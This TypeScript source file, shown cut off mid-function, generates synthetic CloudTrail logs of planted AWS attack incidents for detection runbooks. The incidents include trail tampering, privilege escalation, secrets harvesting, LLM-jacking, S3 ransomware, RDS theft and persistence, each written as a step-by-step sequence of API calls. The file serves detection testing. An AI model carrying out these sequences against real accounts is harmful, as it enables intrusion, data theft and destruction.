/**
 * The twenty-five planted incidents (what the bundled runbooks detect), within the 12 hours
 * before the window's end (or `incidentsEnd`, generateLogs'). Each incident is one function; they run in a fixed order because they share
 * one random stream (same seed, same bytes).
 */
import {
  ACCOUNT,
  APP,
  accessDenied,
  accountCreatedEvent,
  assumeRoleCall,
  baseEvent,
  type Call,
  type Ctx,
  consoleLogin,
  createAccessKey,
  EVE,
  type Ev,
  fixedCall,
  GITHUB_OIDC,
  MALLORY,
  objectCall,
  outsider,
  type Principal,
  READS,
  ROOT,
  SWEEP_READS,
  samlUser,
  USER_PRINCIPALS,
  webIdentity,
} from "./events.ts";
import type { Random } from "./random.ts";

/** What every incident needs: times within the span, contexts, calls. */
interface Plant {
  /** A time at `fraction` of the 12 hours before the incidents' end (or of all before it when shorter), plus ms. */
  at: (fraction: number, plusMs?: number) => Date;
  ctx: (t: Date, region?: string) => Ctx;
  call: (source: string, name: string, params: unknown, readOnly?: boolean) => Call;
  /** A call that changes something, with the response it records when it has one. */
  write: (source: string, name: string, params: unknown, response?: unknown) => Call;
  /** us-east-1 when generated, else the first region (EC2 calls are regional). */
  ec2Region: string;
  regions: string[];
}

function plant(r: Random, start: Date, end: Date, regions: string[]): Plant {
  const span = Math.min(12 * 3600_000, end.getTime() - start.getTime());
  return {
    at: (fraction, plusMs = 0) =>
      new Date(end.getTime() - span + Math.floor(span * fraction) + plusMs),
    ctx: (t, region = "us-east-1") => ({ r, t, region }),
    call: (source, name, params, readOnly = false) => fixedCall(source, name, params, { readOnly }),
    write: (source, name, params, response) => fixedCall(source, name, params, { response }),
    ec2Region: regions.includes("us-east-1") ? "us-east-1" : (regions[0] as string),
    regions,
  };
}

/** 1. Root console sign-in without MFA, then root API calls. */
function rootActivity({ at, ctx, call }: Plant): Ev[] {
  return [
    consoleLogin(ctx(at(0.05)), ROOT, { success: true, mfa: false, ip: "203.0.113.50" }),
    baseEvent(ctx(at(0.05, 120_000)), ROOT, call("iam.amazonaws.com", "ListUsers", null, true)),
    baseEvent(
      ctx(at(0.05, 300_000)),
      ROOT,
      call("iam.amazonaws.com", "GetAccountSummary", null, true),
    ),
    baseEvent(ctx(at(0.05, 540_000)), ROOT, {
      ...call("iam.amazonaws.com", "CreateUser", { userName: "backup-admin" }),
      response: () => ({
        user: {
          userName: "backup-admin",
          userId: "AIDAEXAMPLEBACKUPADM",
          arn: `arn:aws:iam::${ACCOUNT}:user/backup-admin`,
        },
      }),
    }),
  ];
}

/** 2. A burst of 80 access-denied calls within 10 minutes from mallory. */
function deniedBurst({ at, ctx, call, ec2Region }: Plant): Ev[] {
  const probes: [Call, boolean][] = [
    [call("iam.amazonaws.com", "ListRoles", null, true), false],
    [call("iam.amazonaws.com", "GetAccountAuthorizationDetails", null, true), false],
    [call("s3.amazonaws.com", "ListBuckets", { Host: "s3.amazonaws.com" }, true), false],
    [call("s3.amazonaws.com", "GetBucketPolicy", { bucketName: "finance-reports" }, true), false],
    [
      call("ec2.amazonaws.com", "DescribeInstances", { instancesSet: {}, filterSet: {} }, true),
      true,
    ],
    [call("ec2.amazonaws.com", "RunInstances", { instanceType: "p3.16xlarge" }), true],
    [
      call("secretsmanager.amazonaws.com", "GetSecretValue", { secretId: "prod/app/db" }, true),
      false,
    ],
    [call("secretsmanager.amazonaws.com", "ListSecrets", null, true), false],
  ];
  const out: Ev[] = [];
  for (let i = 0; i < 80; i++) {
    const [c, ec2] = probes[i % probes.length] as [Call, boolean];
    out.push(
      accessDenied(ctx(at(0.15, i * 7_000), ec2 ? ec2Region : "us-east-1"), MALLORY, c, ec2),
    );
  }
  return out;
}

/** 3. Access keys created for another user. */
function keysForAnotherUser({ at, ctx }: Plant): Ev[] {
  return [createAccessKey(ctx(at(0.2)), MALLORY, "bob")];
}

/** 4. A security group opened to the world on port 22. */
function openSecurityGroup({ at, ctx, call, ec2Region }: Plant): Ev[] {
  return [
    baseEvent(
      ctx(at(0.25), ec2Region),
      EVE,
      call("ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", {
        groupId: "sg-0badc0ffee0123456",
        ipPermissions: {
          items: [
            {
              ipProtocol: "tcp",
              fromPort: 22,
              toPort: 22,
              ipRanges: { items: [{ cidrIp: "0.0.0.0/0" }] },
            },
          ],
        },
      }),
    ),
  ];
}

/** 5. CloudTrail logging stopped, and event selectors changed. */
function trailTampering({ at, ctx, call }: Plant): Ev[] {
  return [
    baseEvent(
      ctx(at(0.3)),
      MALLORY,
      call("cloudtrail.amazonaws.com", "StopLogging", {
        name: `arn:aws:cloudtrail:us-east-1:${ACCOUNT}:trail/management-trail`,
      }),
    ),
    baseEvent(
      ctx(at(0.3, 60_000)),
      MALLORY,
      call("cloudtrail.amazonaws.com", "PutEventSelectors", {
        trailName: "management-trail",
        eventSelectors: [
          { readWriteType: "WriteOnly", includeManagementEvents: false, dataResources: [] },
        ],
      }),
    ),
  ];
}

/** 6. Console sign-in without MFA by carol from an unusual address. */
function loginWithoutMfa({ at, ctx }: Plant): Ev[] {
  const carol = USER_PRINCIPALS[2] as Principal;
  return [consoleLogin(ctx(at(0.35)), carol, { success: true, mfa: false, ip: "198.51.100.77" })];
}

/** 7. Policies changed by unexpected principals. */
function policyChanges({ at, ctx, call }: Plant): Ev[] {
  return [
    baseEvent(
      ctx(at(0.4)),
      MALLORY,
      call("iam.amazonaws.com", "AttachUserPolicy", {
        userName: "mallory",
        policyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
      }),
    ),
    baseEvent(
      ctx(at(0.4, 600_000)),
      MALLORY,
      call("s3.amazonaws.com", "PutBucketPolicy", {
        bucketName: "finance-reports",
        Host: "finance-reports.s3.amazonaws.com",
        policy: "",
        bucketPolicy: {
          Version: "2012-10-17",
          Statement: [
            {
              Effect: "Allow",
              Principal: "*",
              Action: "s3:GetObject",
              Resource: "arn:aws:s3:::finance-reports/*",
            },
          ],
        },
      }),
    ),
    baseEvent(
      ctx(at(0.4, 1_200_000)),
      EVE,
      call("iam.amazonaws.com", "UpdateAssumeRolePolicy", {
        roleName: "prod-admin",
        policyDocument:
          '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::444455556666:root"},"Action":"sts:AssumeRole"}]}',
      }),
    ),
  ];
}

/** 8. Twelve failed console sign-ins for "admin" within 20 minutes. */
function passwordGuessing({ at, ctx }: Plant): Ev[] {
  const admin: Principal = {
    key: `arn:aws:iam::${ACCOUNT}:user/admin`,
    identity: () => ({
      type: "IAMUser",
      principalId: "",
      arn: `arn:aws:iam::${ACCOUNT}:user/admin`,
      accountId: ACCOUNT,
      userName: "admin",
    }),
    ip: () => "198.51.100.23",
    userAgent: () => "python-requests/2.31.0",
  };
  const out: Ev[] = [];
  for (let i = 0; i < 12; i++) {
    out.push(
      consoleLogin(ctx(at(0.5, i * 95_000)), admin, {
        success: false,
        mfa: false,
        ip: "198.51.100.23",
      }),
    );
  }
  return out;
}

/** 9. Reconnaissance: 600 successful List/Describe/Get calls in one hour by mallory. */
function reconnaissance({ at, ctx, regions }: Plant): Ev[] {
  const out: Ev[] = [];
  for (let i = 0; i < 600; i++) {
    const c = READS[i % READS.length] as Call;
    const region = c.global ? "us-east-1" : (regions[i % regions.length] as string);
    out.push(baseEvent(ctx(at(0.6, i * 5_900), region), MALLORY, c));
  }
  return out;
}

/** 10. A KMS key scheduled for deletion. */
function keyDeletion({ at, ctx, call }: Plant): Ev[] {
  const key = "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab";
  return [
    baseEvent(ctx(at(0.8)), MALLORY, {
      ...call("kms.amazonaws.com", "ScheduleKeyDeletion", { keyId: key, pendingWindowInDays: 7 }),
      response: () => ({
        keyId: key,
        deletionDate: "Mar 8, 2024, 12:00:00 AM",
        keyState: "PendingDeletion",
        pendingWindowInDays: 7,
      }),
      resources: () => [{ ARN: key, accountId: ACCOUNT, type: "AWS::KMS::Key" }],
    }),
  ];
}

/** 11. An EBS snapshot shared with another account (data-exposure). */
function snapshotShared({ at, ctx, call, ec2Region }: Plant): Ev[] {
  return [
    baseEvent(ctx(at(0.85), ec2Region), MALLORY, {
      ...call("ec2.amazonaws.com", "ModifySnapshotAttribute", {
        snapshotId: "snap-0feedfacecafe0123",
        attributeType: "CREATE_VOLUME_PERMISSION",
        createVolumePermission: { add: { items: [{ userId: "444455556666" }] } },
      }),
      response: () => ({ _return: true }),
    }),
  ];
}

/**
 * 12. Credential harvest (credential-access): eve's sandbox role, which reads no secrets in
 * ordinary traffic, reads fourteen secrets one after another, then eight SecureString
 * parameters decrypted in one GetParameters call, and tries an instance's password.
 */
function secretsHarvest({ at, ctx, call, ec2Region }: Plant): Ev[] {
  const secrets = ["db", "api-key", "stripe", "sendgrid", "github-app", "jwt-signing", "redis"];
  const out: Ev[] = [];
  for (let i = 0; i < 14; i++) {
    const env = i < 7 ? "prod" : "staging";
    out.push(
      baseEvent(
        ctx(at(0.9, i * 4_000)),
        EVE,
        call(
          "secretsmanager.amazonaws.com",
          "GetSecretValue",
          { secretId: `${env}/app/${secrets[i % 7]}` },
          true,
        ),
      ),
    );
  }
  const names = Array.from({ length: 8 }, (_, i) => `/prod/app/param-${i + 1}`);
  out.push(
    baseEvent(
      ctx(at(0.9, 60_000)),
      EVE,
      call("ssm.amazonaws.com", "GetParameters", { names, withDecryption: true }, true),
    ),
    accessDenied(
      ctx(at(0.9, 90_000), ec2Region),
      EVE,
      call("ec2.amazonaws.com", "GetPasswordData", { instanceId: "i-0c3d4e5f607182930" }, true),
      true,
    ),
  );
  return out;
}

/**
 * 13. Remote execution (remote-execution): mallory runs a shell script on an application
 * instance through Systems Manager, then pushes an SSH key onto it with EC2 Instance Connect.
 */
function commandOnInstance({ at, ctx, call, ec2Region }: Plant): Ev[] {
  const instance = "i-0a1b2c3d4e5f60718";
  return [
    baseEvent(ctx(at(0.92), ec2Region), MALLORY, {
      ...call("ssm.amazonaws.com", "SendCommand", {
        documentName: "AWS-RunShellScript",
        instanceIds: [instance],
        interactive: false,
        parameters: "HIDDEN_DUE_TO_SECURITY_REASONS",
      }),
      response: (r) => ({
        command: { commandId: r.uuid(), documentName: "AWS-RunShellScript", status: "Pending" },
      }),
    }),
    baseEvent(ctx(at(0.92, 45_000), ec2Region), MALLORY, {
      ...call("ec2-instance-connect.amazonaws.com", "SendSSHPublicKey", {
        instanceId: instance,
        instanceOSUser: "ec2-user",
        sSHPublicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMalloryMalloryMalloryMalloryMallory01",
      }),
      response: () => ({ success: true }),
    }),
  ];
}

/**
 * 14. A Lambda backdoor (lambda-changes): eve's sandbox role adds a layer from another account to
 * a production function, which the pipeline alone deploys.
 */
function lambdaLayerAdded({ at, ctx, call, ec2Region }: Plant): Ev[] {
  const layer = `arn:aws:lambda:${ec2Region}:444455556666:layer:telemetry-ext:3`;
  return [
    baseEvent(ctx(at(0.95), ec2Region), EVE, {
      ...call("lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2", {
        functionName: "billing-worker",
        layers: [layer],
      }),
      response: () => ({
        functionName: "billing-worker",
        functionArn: `arn:aws:lambda:${ec2Region}:${ACCOUNT}:function:billing-worker`,
        layers: [{ arn: layer, codeSize: 2120 }],
        lastUpdateStatus: "InProgress",
      }),
    }),
  ];
}

/** The federated session mallory's key mints in incident 15 (its access key id is the token's). */
const FEDERATED_KEY = "ASIAEXAMPLEFEDSESS01";
const FEDERATED: Principal = {
  key: `arn:aws:sts::${ACCOUNT}:federated-user/backup-sync`,
  identity: (_r, t) => ({
    type: "FederatedUser",
    principalId: `${ACCOUNT}:backup-sync`,
    arn: `arn:aws:sts::${ACCOUNT}:federated-user/backup-sync`,
    accountId: ACCOUNT,
    accessKeyId: FEDERATED_KEY,
    sessionContext: {
      sessionIssuer: {
        type: "IAMUser",
        principalId: "AIDAEXAMPLEMALLORY01",
        arn: `arn:aws:iam::${ACCOUNT}:user/mallory`,
        accountId: ACCOUNT,
        userName: "mallory",
      },
      webIdFederationData: {},
      attributes: {
        creationDate: `${new Date(t.getTime() - 300_000).toISOString().slice(0, 19)}Z`,
        mfaAuthenticated: "false",
      },
    },
  }),
  ip: () => "203.0.113.66",
  userAgent: () => "python-requests/2.31.0 Boto3/1.34.69 Botocore/1.34.69",
};

/**
 * 15. LLM-jacking (bedrock-model-use, access-key-lifecycle): mallory's key mints a federation
 * token allowed everything (a session that outlives the key's deactivation), and the federated
 * session checks which Bedrock models it may use, enables one, and invokes two (one refused).
 */
function modelAbuse({ at, ctx, call }: Plant): Ev[] {
  const claude = "anthropic.claude-3-sonnet-20240229-v1:0";
  const titan = "amazon.titan-text-express-v1";
  const policy =
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}';
  const bedrock = (i: number, name: string, params: unknown, readOnly = true) =>
    baseEvent(
      ctx(at(0.97, i * 20_000)),
      FEDERATED,
      call("bedrock.amazonaws.com", name, params, readOnly),
    );
  return [
    baseEvent(ctx(at(0.97)), MALLORY, {
      ...call("sts.amazonaws.com", "GetFederationToken", { name: "backup-sync", policy }),
      response: (r) => ({
        credentials: {
          accessKeyId: FEDERATED_KEY,
          sessionToken: `IQoJb3JpZ2luX2Vj${r.upper(40)}`,
          expiration: "Dec 31, 2030, 11:59:59 PM",
        },
        federatedUser: {
          arn: FEDERATED.key,
          federatedUserId: `${ACCOUNT}:backup-sync`,
        },
        packedPolicySize: 6,
      }),
    }),
    bedrock(1, "ListFoundationModels", null),
    bedrock(2, "GetFoundationModelAvailability", { modelId: claude }),
    bedrock(3, "PutUseCaseForModelAccess", null, false),
    ...Array.from({ length: 6 }, (_, i) => bedrock(4 + i, "InvokeModel", { modelId: claude })),
    bedrock(10, "Converse", { modelId: claude }),
    accessDenied(
      ctx(at(0.97, 11 * 20_000)),
      FEDERATED,
      call("bedrock.amazonaws.com", "InvokeModel", { modelId: titan }, true),
    ),
  ];
}

/**
 * 16. Instance credentials stolen (credential-access): the application instance's role session,
 * whose calls come from its VPC, calls from mallory's machine (an SSRF handed over its metadata
 * credentials): who am I, which buckets, which instances.
 */
function instanceCredentialsStolen({ at, ctx, call, ec2Region }: Plant): Ev[] {
  const stolen: Principal = { ...APP, ip: MALLORY.ip, userAgent: MALLORY.userAgent };
  return [
    baseEvent(ctx(at(0.98)), stolen, call("sts.amazonaws.com", "GetCallerIdentity", null, true)),
    baseEvent(ctx(at(0.98, 30_000)), stolen, call("s3.amazonaws.com", "ListBuckets", null, true)),
    baseEvent(
      ctx(at(0.98, 50_000), ec2Region),
      stolen,
      call("ec2.amazonaws.com", "DescribeInstances", { filterSet: {} }, true),
    ),
  ];
}

/**
 * 17. S3 ransomware (s3-ransomware): mallory suspends versioning on the artifacts bucket,
 * rewrites five of its objects with a key of her own (SSE-C, as Codefinger did: one more write is
 * refused), sets a rule expiring every object after 7 days, sends two batch deletions (which
 * CloudTrail records without their keys) and uploads a ransom note, without a key of hers.
 */
function s3Ransomware({ at, ctx, call }: Plant): Ev[] {
  const bucket = "app-artifacts";
  const step = (i: number) => ctx(at(0.99, i * 15_000));
  const xmlns = "http://s3.amazonaws.com/doc/2006-03-01/";
  const bucketCall = (name: string, params: Record<string, unknown>) =>
    call("s3.amazonaws.com", name, {
      bucketName: bucket,
      Host: `${bucket}.s3.amazonaws.com`,
      ...params,
    });
  const sseC = { "x-amz-server-side-encryption-customer-algorithm": "AES256" };
  const rewrite = (key: string) =>
    objectCall("CopyObject", bucket, key, { "x-amz-copy-source": `${bucket}/${key}`, ...sseC });
  const keys = [
    "releases/api-1.4.2.zip",
    "releases/api-1.4.3.zip",
    "releases/web-2.0.1.zip",
    "db/dump-2026.sql.gz",
    "db/dump-latest.sql.gz",
  ];
  return [
    baseEvent(
      step(0),
      MALLORY,
      bucketCall("PutBucketVersioning", {
        versioning: "",
        VersioningConfiguration: { Status: "Suspended", xmlns },
      }),
    ),
    ...keys.map((k, i) => baseEvent(step(1 + i), MALLORY, rewrite(k))),
    accessDenied(step(6), MALLORY, rewrite("config/prod.env")),
    baseEvent(
      step(7),
      MALLORY,
      bucketCall("PutBucketLifecycle", {
        lifecycle: "",
        LifecycleConfiguration: {
          Rule: {
            ID: "cleanup",
            Status: "Enabled",
            Filter: { Prefix: "" },
            Expiration: { Days: 7 },
          },
          xmlns,
        },
      }),
    ),
    ...[8, 9].map((i) =>
      baseEvent(step(i), MALLORY, {
        ...objectCall("DeleteObjects", bucket, ""),
        params: () => ({ bucketName: bucket, Host: `${bucket}.s3.amazonaws.com`, delete: "" }),
        // the bucket only: CloudTrail names no object of a batch deletion
        resources: () => [
          { ARN: `arn:aws:s3:::${bucket}`, accountId: ACCOUNT, type: "AWS::S3::Bucket" },
        ],
      }),
    ),
    baseEvent(step(10), MALLORY, objectCall("PutObject", bucket, "README-RESTORE.txt")),
  ];
}

/**
 * 18. RDS data theft and destruction (rds-data-protection): eve's sandbox role snapshots the
 * orders database, copies the snapshot under a KMS key of another account and exports it to a
 * bucket of hers, restores it (private, as RDS does by default in a VPC), makes the copy public
 * and resets its master password, then turns
 * the database's deletion protection off with 0 days of backups, deletes it without a final
 * snapshot and deletes her snapshot; her attempt on the cluster snapshot is refused.
 */
function rdsTheft({ at, ctx, write, ec2Region }: Plant): Ev[] {
  const step = (i: number) => ctx(at(0.6, i * 20_000), ec2Region);
  const rds = (name: string, params: unknown, response?: unknown) =>
    write("rds.amazonaws.com", name, params, response);
  const snapshot = `arn:aws:rds:${ec2Region}:${ACCOUNT}:snapshot:orders-db-adhoc`;
  const ids = { dBInstanceIdentifier: "orders-db" };
  return [
    baseEvent(
      step(0),
      EVE,
      rds(
        "CreateDBSnapshot",
        { ...ids, dBSnapshotIdentifier: "orders-db-adhoc" },
        { snapshotType: "manual", status: "creating" },
      ),
    ),
    baseEvent(
      step(1),
      EVE,
      rds("CopyDBSnapshot", {
        sourceDBSnapshotIdentifier: "orders-db-adhoc",
        targetDBSnapshotIdentifier: "orders-db-rekeyed",
        kmsKeyId: "arn:aws:kms:us-east-1:444455556666:key/7f1c2d3e-0000-4000-8000-000000000001",
      }),
    ),
    baseEvent(
      step(2),
      EVE,
      rds("StartExportTask", {
        exportTaskIdentifier: "orders-export",
        sourceArn: snapshot,
        s3BucketName: "eve-exports-7731",
        iamRoleArn: `arn:aws:iam::${ACCOUNT}:role/dev-sandbox`,
        kmsKeyId: `arn:aws:kms:us-east-1:${ACCOUNT}:key/app-data`,
      }),
    ),
    baseEvent(
      step(3),
      EVE,
      rds(
        "RestoreDBInstanceFromDBSnapshot",
        { dBSnapshotIdentifier: "orders-db-adhoc", dBInstanceIdentifier: "orders-db-copy" },
        { dBInstanceIdentifier: "orders-db-copy", publiclyAccessible: false },
      ),
    ),
    baseEvent(
      step(4),
      EVE,
      rds("ModifyDBInstance", {
        dBInstanceIdentifier: "orders-db-copy",
        masterUserPassword: "****",
        publiclyAccessible: true,
        applyImmediately: true,
      }),
    ),
    baseEvent(
      step(5),
      EVE,
      rds("ModifyDBInstance", {
        ...ids,
        deletionProtection: false,
        backupRetentionPeriod: 0,
        applyImmediately: true,
      }),
    ),
    baseEvent(step(6), EVE, rds("DeleteDBInstance", { ...ids, skipFinalSnapshot: true })),
    baseEvent(step(7), EVE, rds("DeleteDBSnapshot", { dBSnapshotIdentifier: "orders-db-adhoc" })),
    accessDenied(
      step(8),
      EVE,
      rds("DeleteDBClusterSnapshot", { dBClusterSnapshotIdentifier: "billing-nightly" }),
    ),
  ];
}

/** The key incident 19 leaks: the reporting service user's, long-lived, pushed to a public repository. */
const LEAKED: Principal = {
  key: `arn:aws:iam::${ACCOUNT}:user/reporting-svc`,
  identity: () => ({
    type: "IAMUser",
    principalId: "AIDAEXAMPLEREPORTSV1",
    arn: `arn:aws:iam::${ACCOUNT}:user/reporting-svc`,
    accountId: ACCOUNT,
    accessKeyId: "AKIAEXAMPLEREPORTSV1",
    userName: "reporting-svc",
  }),
  ip: () => "192.0.2.44",
  // boto3's own agent, as enumerate-iam sends it (it sets none of its own)
  userAgent: () =>
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.8.0-45-generic md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69",
};

/**
 * 19. A leaked key put to work (reconnaissance): TruffleHog checks the reporting service user's
 * key (user agent "TruffleHog"); over an hour later the key sweeps SWEEP_READS's 36 read
 * actions of 15 services in nine minutes, three of four refused; probes SES (the quota, whether
 * sending is enabled, the identities), verifies a sender and asks for production access
 * (refused); switches ap-southeast-3 on and imports a key pair there.
 */
function leakedKeyRecon({ at, ctx, call }: Plant): Ev[] {
  const check: Principal = { ...LEAKED, ip: () => "198.51.100.99", userAgent: () => "TruffleHog" };
  const step = (i: number, region = "us-east-1") => ctx(at(0.7, i * 15_000), region);
  const sweep = SWEEP_READS.map((c, i) =>
    i % 4 === 0
      ? baseEvent(step(i), LEAKED, c)
      : accessDenied(step(i), LEAKED, c, c.source === "ec2.amazonaws.com"),
  );
  const ses = (i: number, name: string, params: unknown = null, readOnly = false) =>
    baseEvent(step(40 + i), LEAKED, call("ses.amazonaws.com", name, params, readOnly));
  return [
    baseEvent(ctx(at(0.6)), check, call("sts.amazonaws.com", "GetCallerIdentity", null, true)),
    ...sweep,
    ses(0, "GetSendQuota", null, true),
    ses(1, "GetAccountSendingEnabled", null, true),
    ses(2, "ListIdentities", { identityType: "EmailAddress" }, true),
    ses(3, "VerifyEmailIdentity", { emailAddress: "billing@example.net" }),
    accessDenied(
      step(44),
      LEAKED,
      call("ses.amazonaws.com", "PutAccountDetails", {
        mailType: "MARKETING",
        websiteURL: "https://example.net",
        productionAccessEnabled: true,
      }),
    ),
    baseEvent(
      step(45),
      LEAKED,
      call("account.amazonaws.com", "EnableRegion", { RegionName: "ap-southeast-3" }),
    ),
    baseEvent(
      step(50, "ap-southeast-3"),
      LEAKED,
      call("ec2.amazonaws.com", "ImportKeyPair", { keyName: "backup" }),
    ),
  ];
}

/** An EC2 call of incident 20, with its response when it has one. */
type Ec2Call = (name: string, params: unknown, response?: unknown) => Call;

/** The VPC of the orders database (incident 20). */
const DATA_VPC = "vpc-0data00000000c011";

/** Incident 20's first part: the orders database's interface mirrored to another account. */
function networkMirror(step: (i: number) => Ctx, ec2: Ec2Call, ec2Region: string): Ev[] {
  const nlb = `arn:aws:elasticloadbalancing:${ec2Region}:444455556666:loadbalancer/net/collector/5e5e00000000c011`;
  const [target, filter] = ["tmt-0e5e000000000c011", "tmf-0e5e000000000c011"];
  return [
    baseEvent(
      step(0),
      EVE,
      ec2(
        "CreateTrafficMirrorTarget",
        { CreateTrafficMirrorTargetRequest: { NetworkLoadBalancerArn: nlb } },
        {
          CreateTrafficMirrorTargetResponse: {
            trafficMirrorTarget: { trafficMirrorTargetId: target, networkLoadBalancerArn: nlb },
          },
        },
      ),
    ),
    baseEvent(
      step(1),
      EVE,
      ec2(
        "CreateTrafficMirrorFilter",
        { CreateTrafficMirrorFilterRequest: {} },
        {
          CreateTrafficMirrorFilterResponse: {
            trafficMirrorFilter: { trafficMirrorFilterId: filter },
          },
        },
      ),
    ),
    baseEvent(
      step(2),
      EVE,
      ec2("CreateTrafficMirrorFilterRule", {
        CreateTrafficMirrorFilterRuleRequest: {
          TrafficMirrorFilterId: filter,
          TrafficDirection: "ingress",
          RuleNumber: 100,
          RuleAction: "accept",
          SourceCidrBlock: "0.0.0.0/0",
          DestinationCidrBlock: "0.0.0.0/0",
        },
      }),
    ),
    baseEvent(
      step(3),
      EVE,
      ec2("CreateTrafficMirrorSession", {
        CreateTrafficMirrorSessionRequest: {
          NetworkInterfaceId: "eni-0db0rders0000c011",
          TrafficMirrorTargetId: target,
          TrafficMirrorFilterId: filter,
          SessionNumber: 1,
        },
      }),
    ),
  ];
}

/**
 * 20. Network paths opened (network-paths): eve's sandbox role mirrors the orders database's
 * network interface to a load balancer of another account (a target, an accept-all filter and a
 * session), attaches a new internet gateway to the data VPC with a default route through it,
 * peers the VPC with that other account, opens the S3 endpoint's policy to any principal and adds
 * a network ACL entry letting all traffic in from the whole internet.
 */
function networkPaths({ at, ctx, write, ec2Region }: Plant): Ev[] {
  const step = (i: number) => ctx(at(0.65, i * 30_000), ec2Region);
  const ec2: Ec2Call = (name, params, response) =>
    write("ec2.amazonaws.com", name, params, response);
  const igw = "igw-0e5e0000c011";
  const open = JSON.stringify({
    Version: "2008-10-17",
    Statement: [{ Effect: "Allow", Principal: "*", Action: "*", Resource: "*" }],
  });
  return [
    ...networkMirror(step, ec2, ec2Region),
    baseEvent(
      step(4),
      EVE,
      ec2("CreateInternetGateway", {}, { internetGateway: { internetGatewayId: igw } }),
    ),
    baseEvent(
      step(5),
      EVE,
      ec2("AttachInternetGateway", { internetGatewayId: igw, vpcId: DATA_VPC }),
    ),
    baseEvent(
      step(6),
      EVE,
      ec2("CreateRoute", {
        routeTableId: "rtb-0data00000000c011",
        destinationCidrBlock: "0.0.0.0/0",
        gatewayId: igw,
      }),
    ),
    baseEvent(
      step(7),
      EVE,
      ec2("CreateVpcPeeringConnection", {
        vpcId: DATA_VPC,
        peerVpcId: "vpc-0e5e00000000c011",
        peerOwnerId: "444455556666",
        peerRegion: "eu-west-1",
      }),
    ),
    baseEvent(
      step(8),
      EVE,
      ec2("ModifyVpcEndpoint", {
        ModifyVpcEndpointRequest: { VpcEndpointId: "vpce-0s3data0000c011", PolicyDocument: open },
      }),
    ),
    baseEvent(
      step(9),
      EVE,
      ec2("CreateNetworkAclEntry", {
        networkAclId: "acl-0data00000000c011",
        ruleNumber: 1,
        egress: false,
        ruleAction: "allow",
        aclProtocol: "-1",
        cidrBlock: "0.0.0.0/0",
        icmpTypeCode: {},
        portRange: {},
      }),
    ),
  ];
}

/** The Identity Center instance of the account (incident 21). */
const SSO_INSTANCE = "arn:aws:sso:::instance/ssoins-72230000c0110021";

/**
 * 21. New ways to sign in planted (sign-in-persistence): mallory's key makes the account trust a
 * SAML provider of its own, creates an Identity Center permission set, gives it
 * AdministratorAccess and assigns it to the account for an Identity Center user, gives dave a
 * console password and deactivates carol's MFA device; then the federated session it minted in
 * incident 15 turns itself into a console session (GetSigninToken with python-requests, as
 * aws_consoler does).
 */
function signInPersistence({ at, ctx, call }: Plant): Ev[] {
  const step = (i: number) => ctx(at(0.8, i * 20_000));
  const ps = "arn:aws:sso:::permissionSet/ssoins-72230000c0110021/ps-5e5e0000c0110021";
  const sso = (name: string, params: unknown) => call("sso.amazonaws.com", name, params);
  const iam = (name: string, params: unknown) => call("iam.amazonaws.com", name, params);
  return [
    baseEvent(step(0), MALLORY, {
      ...iam("CreateSAMLProvider", {
        name: "okta-backup",
        sAMLMetadataDocument: '<?xml version="1.0" encoding="UTF-8"?><md:EntityDescriptor/>',
      }),
      response: () => ({
        sAMLProviderArn: `arn:aws:iam::${ACCOUNT}:saml-provider/okta-backup`,
      }),
    }),
    baseEvent(step(1), MALLORY, {
      ...sso("CreatePermissionSet", { instanceArn: SSO_INSTANCE, name: "BreakGlass" }),
      response: () => ({ permissionSet: { name: "BreakGlass", permissionSetArn: ps } }),
    }),
    baseEvent(
      step(2),
      MALLORY,
      sso("AttachManagedPolicyToPermissionSet", {
        instanceArn: SSO_INSTANCE,
        permissionSetArn: ps,
        managedPolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
      }),
    ),
    baseEvent(
      step(3),
      MALLORY,
      sso("CreateAccountAssignment", {
        instanceArn: SSO_INSTANCE,
        targetId: ACCOUNT,
        targetType: "AWS_ACCOUNT",
        permissionSetArn: ps,
        principalType: "USER",
        principalId: "9067c011-5e5e-4c01-a021-0000c0110021",
      }),
    ),
    baseEvent(
      step(4),
      MALLORY,
      iam("CreateLoginProfile", { userName: "dave", passwordResetRequired: false }),
    ),
    baseEvent(
      step(5),
      MALLORY,
      iam("DeactivateMFADevice", {
        userName: "carol",
        serialNumber: `arn:aws:iam::${ACCOUNT}:mfa/carol`,
      }),
    ),
    baseEvent(ctx(at(0.985)), FEDERATED, call("signin.amazonaws.com", "GetSigninToken", null)),
  ];
}

/** The other account of incident 22's repository policy. */
const OUTSIDE_ACCOUNT = "444455556666";

/**
 * 22. Container registry, cluster and build project hijacked (build-and-registry): eve's sandbox
 * role lets another account pull the payments-api repository, makes its tags mutable, turns its
 * scan on push off and pushes an image over `latest`; opens the prod EKS cluster's API endpoint to
 * the internet and makes its own role a cluster admin through an access entry; makes the
 * payments-api CodeBuild project public and starts a build with a buildspec of its own.
 */
function buildAndRegistry({ at, ctx, write, ec2Region }: Plant): Ev[] {
  const step = (i: number) => ctx(at(0.72, i * 25_000), ec2Region);
  return [
    ...registryHijack(step, write),
    ...clusterOpened((i) => step(4 + i), write),
    ...buildHijack((i) => step(7 + i), write),
  ];
}

/** Incident 22's registry part: a policy for another account, mutable tags, no scan, a push. */
function registryHijack(step: (i: number) => Ctx, write: Plant["write"]): Ev[] {
  const ecr = (name: string, params: unknown) => write("ecr.amazonaws.com", name, params);
  const repositoryName = "payments-api";
  const policyText = JSON.stringify({
    Version: "2012-10-17",
    Statement: [
      {
        Sid: "pull",
        Effect: "Allow",
        Principal: { AWS: `arn:aws:iam::${OUTSIDE_ACCOUNT}:root` },
        Action: ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"],
      },
    ],
  });
  return [
    baseEvent(step(0), EVE, ecr("SetRepositoryPolicy", { repositoryName, policyText })),
    baseEvent(
      step(1),
      EVE,
      ecr("PutImageTagMutability", { repositoryName, imageTagMutability: "MUTABLE" }),
    ),
    baseEvent(
      step(2),
      EVE,
      ecr("PutImageScanningConfiguration", {
        repositoryName,
